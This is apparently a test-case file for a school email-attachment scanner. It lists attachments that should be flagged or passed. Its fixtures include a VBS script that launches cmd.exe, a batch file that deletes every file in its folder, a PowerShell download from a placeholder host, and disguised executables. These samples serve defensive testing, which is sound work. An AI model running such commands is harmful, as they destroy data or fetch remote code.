import { strToU8 } from 'fflate';
import { xlsx } from '../../../attachments/sample-files';
import type { Case } from '../case';
import { EXE, PHOTO, bytes, docx, eml, zip } from '../matter';

export const programFile: readonly Case[] = [
  ['found', 'a program', { files: [['game.exe', EXE]] }],
  ['found', 'a program that calls itself a text', { files: [['readme.txt', EXE]] }],
  ['found', 'a program in a ZIP in a ZIP', { files: [['a.zip', zip({ 'b.zip': zip({ 'c.txt': EXE }) })]] }],
  [
    'found',
    'a script',
    { files: [['start.vbs', 'Set shell = CreateObject("WScript.Shell")\r\nshell.Run "cmd.exe"\r\n']] },
  ],
  ['found', 'a document with macros', { files: [['plan.docm', docx('Plan', { 'word/vbaProject.bin': bytes(100) })]] }],
  ['clear', 'a document', { files: [['plan.docx', docx('Plan')]] }],
  [
    'clear',
    'macros where the school allows them',
    { files: [['plan.docm', docx('Plan', { 'word/vbaProject.bin': bytes(100) })]], parameters: { allowMacros: true } },
  ],
  ['clear', 'a text about programs', { files: [['notes.txt', 'Run setup.exe to install.']] }],
  ['clear', 'a table', { files: [['a.csv', 'a,b\n1,2\n']] }],
  ['clear', 'a ZIP of texts', { files: [['a.zip', zip({ 'b.txt': strToU8('hello') })]] }],
  ['found', 'a shortcut', { files: [['Letter.txt.lnk', new Uint8Array([0x4c, 0, 0, 0, 1, 0x14, 2, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46, ...new Uint8Array(60)])]] }],
  ['found', 'a batch file', { files: [['run.bat', '@echo off\r\ndel /q *.*\r\n']] }],
  ['found', 'a program in an attached message’s ZIP', { files: [['a.zip', zip({ 'setup.scr': EXE })]] }],
  ['found', 'a PowerShell script', { files: [['go.ps1', 'Invoke-WebRequest http://x.example -OutFile y\r\n']] }],
  ['clear', 'a ZIP of letters', { files: [['letters.zip', zip({ 'a.docx': docx('Dear parents') })]] }],
  ['clear', 'a photograph', { files: [['IMG_1.jpg', PHOTO]] }],
  ['clear', 'a workbook', { files: [['list.xlsx', xlsx()]] }],
  ['clear', 'a page of HTML without a script', { files: [['letter.html', '<!doctype html><html><body><p>Dear parents</p></body></html>']] }],
  ['clear', 'a program in C, to read', { files: [['sort.c', '#include <stdio.h>\nint main(void) { puts("hello"); return 0; }\n']] }],
  ['clear', 'a calendar entry', { files: [['trip.ics', 'BEGIN:VCALENDAR\r\nVERSION:2.0\r\nEND:VCALENDAR\r\n']] }],
  ['clear', 'a link in the text to a program', { body: 'Install it from https://www.castle-trips.example/setup.exe' }],
  ['clear', 'an attached message', { files: [['old.eml', eml('Trip', 'Nine o’clock at the gate.')]] }],
];
